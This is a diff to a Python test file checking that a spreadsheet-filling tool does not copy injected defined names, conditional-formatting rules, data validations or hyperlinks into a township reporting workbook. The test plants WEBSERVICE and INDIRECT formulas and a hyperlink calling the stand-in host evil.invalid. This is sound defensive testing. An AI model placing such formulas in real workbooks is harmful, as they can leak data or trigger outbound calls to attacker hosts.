@@ -361,13 +361,15 @@ def test_bad_139_names_rules_and_formats_of_a_return_are_not_copied(
     target = fill(source, workspace / "报送/2019Q3/金凤镇.xlsx", GOOD)
     book: Any = load_workbook(target)
     from openpyxl.formatting.rule import FormulaRule
+
+    made: Any = FormulaRule
     from openpyxl.workbook.defined_name import DefinedName
     from openpyxl.worksheet.datavalidation import DataValidation
 
     book.defined_names["恶意"] = DefinedName("恶意", attr_text='WEBSERVICE("http://evil.invalid/")')
     sheet = book["一、组织领导"]
     sheet.conditional_formatting.add(
-        "A1:A9", FormulaRule(formula=['WEBSERVICE("http://evil.invalid/")="x"'])
+        "A1:A9", made(formula=['WEBSERVICE("http://evil.invalid/")="x"'])
     )
     sheet.add_data_validation(DataValidation("list", 'INDIRECT("evil.invalid")', sqref="Z1:Z9"))
     sheet["J4"].hyperlink = "http://evil.invalid/"
